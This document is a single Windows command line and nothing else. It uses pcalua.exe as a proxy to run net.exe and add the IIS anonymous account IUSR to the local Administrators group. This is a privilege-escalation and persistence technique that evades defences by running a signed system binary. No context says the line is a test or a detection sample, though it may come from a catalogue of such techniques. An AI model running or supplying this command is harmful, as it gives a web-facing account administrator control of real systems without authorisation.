pcalua.exe -a net.exe -c "localgroup Administrators IUSR /add"
